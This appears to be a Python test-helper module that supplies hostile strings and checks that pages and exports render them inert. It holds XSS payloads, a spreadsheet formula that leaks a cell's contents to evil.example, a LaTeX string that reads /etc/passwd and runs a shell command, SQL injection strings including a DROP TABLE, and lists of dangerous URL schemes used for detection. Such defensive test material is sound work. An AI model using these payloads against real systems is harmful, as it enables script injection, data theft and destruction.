"""Hostile strings, and the checks that say a page, a feed or an export left them inert.

Every payload starts with its own marker word, so a test can also prove the field was shown at
all (a check that passes because the text never reached the page proves nothing).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit


@dataclass(frozen=True)
class Payload:
    marker: str
    attack: str

    @property
    def text(self) -> str:
        return f"{self.marker} {self.attack}"


XSS_PAYLOADS: tuple[Payload, ...] = (
    Payload("xssscripttag", "<script>alert(1)</script>"),
    Payload("xssattrbreak", '"><img src=x onerror=alert(1)>'),
    Payload("xsssinglequote", "'><svg/onload=alert(1)>"),
    Payload("xssjsurl", '<a href="javascript:alert(1)">click</a>'),
    Payload("xssjsurlspaced", '<a href=" jav&#x09;ascript:alert(1)">click</a>'),
    Payload("xsssvg", "<svg onload=alert(1)><circle r=1 /></svg>"),
    Payload("xssiframe", '<iframe src="https://evil.example/"></iframe>'),
    Payload("xssstyle", "<style>body{background:url(https://evil.example/x)}</style>"),
    Payload("xsscssexpr", '<div style="width:expression(alert(1))">x</div>'),
    Payload("xsstemplate", "{{ request.user.password }} {% debug %} {{7*7}}"),
    Payload("xssrtl", "invoice\u202egpj.exe"),
    Payload("xssmdlink", "[x](javascript:alert(1)) and ![y](javascript:alert(2))"),
    Payload("xssdataurl", '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>'),
    Payload("xssmeta", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Payload("xssformula", '=HYPERLINK("https://evil.example/?x="&A1,"click")'),
    Payload("xsslatex", r"\input{/etc/passwd} \write18{id} $\x$ 100% #1 _x_ ^y ~ &"),
)

# Short enough for a 200-character name or a 100-character model version.
SHORT_PAYLOADS: tuple[Payload, ...] = tuple(p for p in XSS_PAYLOADS if len(p.text) <= 100)

URL_PAYLOADS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
)

NUL_TEXT = "a NUL \x00 byte"

SQL_LIKE_STRINGS: tuple[str, ...] = (
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "' OR 1=1 --",
    '"; DROP TABLE incidents_incident; --',
    "%",
    "_",
    "\\",
    ":*",
    "&|!<->",
    "$1",
    "a" * 5000,
    "x\x00y",
    "\ud800",
    "-1",
    "99999999999999999999999",
)

DANGEROUS_URL_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "srcset"}
)
FORBIDDEN_ELEMENTS = frozenset(
    {"iframe", "frame", "object", "embed", "style", "base", "applet", "math", "link"}
)
_SPACE_AND_CONTROLS = re.compile(r"[\x00-\x20\x7f]+")


@dataclass
class LiveMarkup:
    """What a parsed document holds that could run script or load from elsewhere."""

    problems: list[str] = field(default_factory=list)


class _Inspector(HTMLParser):
    def __init__(self, *, allowed_link_hrefs: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.live = LiveMarkup()
        self.allowed_link_hrefs = allowed_link_hrefs
        self.in_head = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inspect(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inspect(tag, attrs)

    def _inspect(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"
        if tag == "script":
            src = values.get("src") or ""
            # The site's own scripts come from /static/; anything else is someone else's.
            if not src.startswith("/static/"):
                self.live.problems.append(f"script element: {where}")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.live.problems.append(f"meta refresh: {where}")
        if tag == "link":
            href = values.get("href") or ""
            if not href.startswith(self.allowed_link_hrefs):
                self.live.problems.append(f"link element: {where}")
        elif tag in FORBIDDEN_ELEMENTS:
            self.live.problems.append(f"{tag} element: {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.live.problems.append(f"event handler attribute {name}: {where}")
            if name == "style":
                self.live.problems.append(f"style attribute: {where}")
            if name in URL_ATTRIBUTES and value and is_dangerous_url(value):
                self.live.problems.append(f"dangerous URL in {name}: {where}")


def is_dangerous_url(value: str) -> bool:
    """True for a URL a browser would run or render inline (javascript:, data:, vbscript:)."""
    squeezed = _SPACE_AND_CONTROLS.sub("", value).lower()
    return squeezed.startswith(DANGEROUS_URL_SCHEMES)


def live_markup(html: str) -> list[str]:
    """Every element or attribute in `html` that could run script, load a frame or a style."""
    inspector = _Inspector(allowed_link_hrefs=("/static/", "https://", "http://", "/"))
    inspector.feed(html)
    inspector.close()
    return inspector.live.problems


def assert_inert(html: str) -> None:
    problems = live_markup(html)
    assert problems == [], "live markup from user content:\n" + "\n".join(problems)


def assert_shows_markers(html: str, payloads: tuple[Payload, ...] = XSS_PAYLOADS) -> None:
    """Every payload's marker reached the page (so the inertness check was not vacuous)."""
    missing = [p.marker for p in payloads if p.marker not in html]
    assert missing == [], f"payload markers missing from the page: {missing}"


def url_host(url: str) -> str:
    return urlsplit(url).hostname or ""
